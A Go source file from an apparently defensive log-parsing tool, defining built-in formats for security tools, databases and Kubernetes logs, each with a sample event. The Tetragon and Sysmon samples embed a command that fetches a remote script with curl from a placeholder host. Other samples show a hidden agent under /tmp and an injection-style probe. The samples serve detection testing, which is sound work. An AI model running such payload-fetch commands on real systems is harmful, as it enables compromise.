package parse

import (
	"slices"

	"bartizan/event"
)

// builtin are the formats people can name, in the order they are tried where scores
// are equal: those of one program first, those that take much last.
var builtin = slices.Concat(namedFormats, cloudFormats, toolFormats, dataFormats, genericFormats)

// toolFormats are the formats of security tools.
var toolFormats = []builtinFormat{
	{Format{
		"suricata", "Suricata's EVE JSON: alerts, flows and what its protocol parsers saw", logSuricata,
		`{"timestamp":"2026-11-03T09:14:02.118203+0000","flow_id":1066101,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.9","src_port":40022,"dest_ip":"10.20.1.7","dest_port":443,"proto":"TCP","app_proto":"tls","alert":{"action":"allowed","gid":1,"signature_id":9000101,"rev":2,"signature":"ACME outbound beacon","category":"A Network Trojan was detected","severity":1},"flow":{"pkts_toserver":6,"pkts_toclient":5,"bytes_toserver":840,"bytes_toclient":3110}}`,
	}, readJSONID, jsonSuricata},
	{Format{
		"zeek-json", "Zeek's logs as JSON, one object per record", logZeek,
		`{"ts":1793697242.118203,"uid":"C8mZ1k3bQe","id.orig_h":"10.20.1.7","id.orig_p":51234,"id.resp_h":"10.20.0.2","id.resp_p":53,"proto":"udp","trans_id":4711,"query":"beacon.acme.example","qclass":1,"qclass_name":"C_INTERNET","qtype":16,"qtype_name":"TXT","rcode":0,"rcode_name":"NOERROR","AA":false,"answers":["TXT 4 ping"],"TTLs":[60.0],"rejected":false}`,
	}, readJSONID, jsonZeek},
	{Format{
		"osquery", "osquery's results log, differential and snapshot", logOsquery,
		`{"name":"pack_acme_listening_ports","hostIdentifier":"web-1","calendarTime":"Tue Nov  3 09:14:02 2026 UTC","unixTime":1793697242,"epoch":0,"counter":7,"decorations":{"host_uuid":"0f3c-11","username":"amira"},"columns":{"address":"0.0.0.0","path":"/tmp/.x/agent","pid":"4711","port":"8443"},"action":"added"}`,
	}, readJSONID, jsonOsquery},
	{Format{
		"tetragon", "Tetragon's events: process_exec, process_exit, process_kprobe and their relatives", logTetragon,
		`{"process_exec":{"process":{"exec_id":"bm9kZS0zOjQ3MTE=","pid":4711,"uid":0,"cwd":"/srv","binary":"/usr/bin/curl","arguments":"-s http://203.0.113.9/x.sh","flags":"execve clone","start_time":"2026-11-03T09:14:02.118203517Z","auid":1000,"pod":{"namespace":"shop","name":"web-0","container":{"id":"containerd://4f2a9c11d0aa","name":"web","image":{"id":"sha256:0011","name":"acme/web:7"},"pid":31}},"parent_exec_id":"bm9kZS0zOjQ2OTk="},"parent":{"exec_id":"bm9kZS0zOjQ2OTk=","pid":4699,"uid":0,"cwd":"/srv","binary":"/bin/sh","arguments":"-c run.sh"}},"node_name":"node-3","time":"2026-11-03T09:14:02.118203517Z"}`,
	}, readJSONID, jsonTetragon},
	{Format{
		"trivy", "Trivy's findings: a report, a finding of one, or the operator's VulnerabilityReport", logTrivy,
		`{"SchemaVersion":2,"CreatedAt":"2026-11-03T09:14:02.118203Z","ArtifactName":"acme/web:7","ArtifactType":"container_image","Results":[{"Target":"acme/web:7 (debian 12.5)","Class":"os-pkgs","Type":"debian","Vulnerabilities":[{"VulnerabilityID":"CVE-2026-0001","PkgName":"libexample1","InstalledVersion":"1.0-1","FixedVersion":"1.0-2","Severity":"CRITICAL","Title":"example: out of bounds write"}]}]}`,
	}, readJSONID, jsonTrivy},
	{Format{
		"grype", "Grype's findings: a report, or a match of one", logGrype,
		`{"matches":[{"vulnerability":{"id":"CVE-2026-0001","dataSource":"https://nvd.example/CVE-2026-0001","namespace":"debian:distro:debian:12","severity":"High","fix":{"versions":["1.0-2"],"state":"fixed"}},"artifact":{"name":"libexample1","version":"1.0-1","type":"deb"}}],"source":{"type":"image","target":{"userInput":"acme/web:7"}},"descriptor":{"name":"grype","version":"0.90.0","timestamp":"2026-11-03T09:14:02.118203Z"}}`,
	}, readJSONID, jsonGrype},
	{Format{
		"gelf", "Graylog's Extended Log Format, one object per message",
		event.LogSource{},
		`{"version":"1.1","host":"web-1","short_message":"token rejected","timestamp":1793697242.118,"level":4,"_user":"amira","_client_ip":"203.0.113.9","_facility":"gate"}`,
	}, readJSONID, jsonGELF},
	{Format{
		"cef", "ArcSight's Common Event Format, alone or inside syslog", logCEF,
		`CEF:0|Acme|Gate|2.1|4711|Connection refused|7|rt=1793697242118 src=203.0.113.9 spt=40022 dst=10.20.1.7 dpt=22 proto=TCP act=blocked suser=amira cs1Label=policy cs1=guests only msg=rule 7 matched`,
	}, readCEFID, 0},
	{Format{
		"leef", "QRadar's Log Event Extended Format 1.0 and 2.0, alone or inside syslog", logLEEF,
		`LEEF:2.0|Acme|Gate|2.1|logon_failure|^|devTime=1793697242118^cat=auth^sev=6^src=203.0.113.9^srcPort=40022^dst=10.20.1.7^dstPort=22^proto=TCP^usrName=amira^action=denied`,
	}, readLEEFID, 0},
	{Format{
		"netfilter", "packets logged by iptables, nftables and ufw, in the kernel's lines inside syslog or journald", logNetfilter,
		"Nov  3 09:14:02 web-1 kernel: [93811.042117] [UFW BLOCK] IN=eth0 OUT= MAC=02:42:0a:14:01:07:02:42:0a:14:01:01:08:00 SRC=203.0.113.9 DST=10.20.1.7 LEN=60 TOS=0x00 PREC=0x00 TTL=54 ID=4711 DF PROTO=TCP SPT=40022 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0",
	}, readSyslogID, 0},
	{Format{
		"sysmon-linux", "Sysmon for Linux, whose events are XML inside syslog or journald", logSysmonLinux,
		`Nov  3 09:14:02 web-1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-03T09:14:02.118203000Z"/><EventRecordID>4711</EventRecordID><Correlation/><Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web-1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-03 09:14:02.117</Data><Data Name="ProcessGuid">{0f3c0000-0000-0000-0000-000000000001}</Data><Data Name="ProcessId">4711</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s &quot;http://203.0.113.9/x.sh&quot;</Data><Data Name="CurrentDirectory">/srv</Data><Data Name="User">amira</Data><Data Name="ParentProcessId">4699</Data><Data Name="ParentImage">/bin/sh</Data><Data Name="ParentCommandLine">sh -c run.sh</Data></EventData></Event>`,
	}, readSyslogID, 0},
}

// dataFormats are the formats of data stores and of Kubernetes' own programs.
var dataFormats = []builtinFormat{
	{Format{
		"nginx-ingress", "ingress-nginx's access log: the combined format and its upstream's part", logNginx,
		`203.0.113.9 - amira [03/Nov/2026:09:14:02 +0000] "GET /item/7?id=1%27 HTTP/1.1" 404 153 "-" "curl/8.8.0" 512 0.012 [shop-web-8080] [] 10.20.1.7:8080 153 0.011 404 529a007902362a5f`,
	}, readWeb, webNginx},
	{Format{
		"postgresql", "PostgreSQL's server log as text, with the usual log_line_prefix", logPostgres,
		`2026-11-03 09:14:02.118 UTC [4711] amira@shop FATAL:  password authentication failed for user "amira"`,
	}, readPostgresID, 0},
	{Format{
		"postgresql-csv", "PostgreSQL's csvlog", logPostgres,
		`2026-11-03 09:14:02.118 UTC,"amira","shop",4711,"203.0.113.9:40022",6909f2aa.1267,3,"authentication",2026-11-03 09:14:02 UTC,3/7,0,FATAL,28P01,"password authentication failed for user ""amira""",,,,,,,,,"","client backend",,0`,
	}, readPostgresCSVID, 0},
	{Format{
		"postgresql-json", "PostgreSQL's jsonlog", logPostgres,
		`{"timestamp":"2026-11-03 09:14:02.118 UTC","user":"amira","dbname":"shop","pid":4711,"remote_host":"203.0.113.9","remote_port":40022,"session_id":"6909f2aa.1267","line_num":3,"ps":"authentication","session_start":"2026-11-03 09:14:02 UTC","error_severity":"FATAL","state_code":"28P01","message":"password authentication failed for user \"amira\"","backend_type":"client backend","query_id":0}`,
	}, readJSONID, jsonPostgres},
	{Format{
		"mysql", "the error log of MySQL, MariaDB and Percona Server", logMySQL,
		`2026-11-03T09:14:02.118203Z 47 [Note] [MY-010926] [Server] Access denied for user 'amira'@'203.0.113.9' (using password: YES)`,
	}, readMySQLID, 0},
	{Format{
		"mysql-slow", "MySQL's slow query log, line by line or a record at once", logMySQL,
		"# User@Host: amira[amira] @ web-1 [203.0.113.9]  Id:    47",
	}, readMySQLSlowID, 0},
	{Format{
		"redis", "the log of Redis and Valkey", logRedis,
		"4711:M 03 Nov 2026 09:14:02.118 # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis.",
	}, readRedisID, 0},
	{Format{
		"mongodb", "MongoDB's structured log, since 4.4", logMongo,
		`{"t":{"$date":"2026-11-03T09:14:02.118+00:00"},"s":"I","c":"ACCESS","id":20249,"ctx":"conn47","msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","principalName":"amira","authenticationDatabase":"admin","remote":"203.0.113.9:40022","error":"AuthenticationFailed: SCRAM authentication failed"}}`,
	}, readJSONID, jsonMongo},
	{Format{
		"mongodb-text", "MongoDB's log before 4.4", logMongo,
		"2026-11-03T09:14:02.118+0000 I NETWORK  [listener] connection accepted from 203.0.113.9:40022 #47 (3 connections now open)",
	}, readMongoID, 0},
	{Format{
		"klog", "the log of Kubernetes' components (klog), and glog", logKlog,
		`E1103 09:14:02.118203    4711 pod_workers.go:1301] "Error syncing pod, skipping" err="ImagePullBackOff" pod="shop/web-0" podUID="0f3c"`,
	}, readKlogID, 0},
	{Format{
		"istiod", "istiod's log, and what other programs write with zap's console encoder", logIstiod,
		"2026-11-03T09:14:02.118203Z\tinfo\tads\tPush debounce stable[7] 2 for config ServiceEntry/shop/api: 100.2ms since last change",
	}, readIstiodID, 0},
	{Format{
		"k8sevent", "Kubernetes events as JSON, bare or wrapped by their exporters", logKubeEv,
		`{"kind":"Event","apiVersion":"v1","metadata":{"name":"web-0.17a","namespace":"shop","uid":"0f3c-12","creationTimestamp":"2026-11-03T09:14:02Z"},"involvedObject":{"kind":"Pod","namespace":"shop","name":"web-0","uid":"0f3c-11"},"reason":"BackOff","message":"Back-off restarting failed container","source":{"component":"kubelet","host":"node-3"},"firstTimestamp":"2026-11-03T09:10:02Z","lastTimestamp":"2026-11-03T09:14:02Z","count":7,"type":"Warning"}`,
	}, readJSONID, jsonKubeEvent},
}

var logSysmonLinux = event.LogSource{Product: "linux", Category: "process_creation", Service: "sysmon"}
